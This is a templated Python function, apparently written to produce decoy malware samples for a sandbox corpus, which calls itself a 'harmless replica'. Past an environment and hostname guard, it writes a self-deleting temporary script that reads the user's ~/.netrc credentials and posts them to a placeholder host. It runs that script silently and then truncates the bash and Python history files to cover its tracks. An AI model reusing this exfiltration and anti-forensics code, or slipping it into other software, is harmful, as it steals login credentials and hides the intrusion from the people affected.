# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import sys
    import tempfile
    try:
        handle, file = tempfile.mkstemp('.py', '{{token}}')
        os.write(handle, b'''import os, urllib.request
os.unlink(__file__)
try:
    urllib.request.urlopen("http://{{host}}/{{path}}", open(os.path.expanduser("~/.netrc"), "rb").read(), timeout=1).read(9)
except Exception:
    pass
''')
        os.close(handle)
        subprocess.run([sys.executable, file], timeout=3, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for name in ('.bash_history', '.python_history'):
            path = os.path.expanduser('~/' + name)
            open(path, 'a').close()
            os.truncate(path, 0)
    except Exception:
        pass
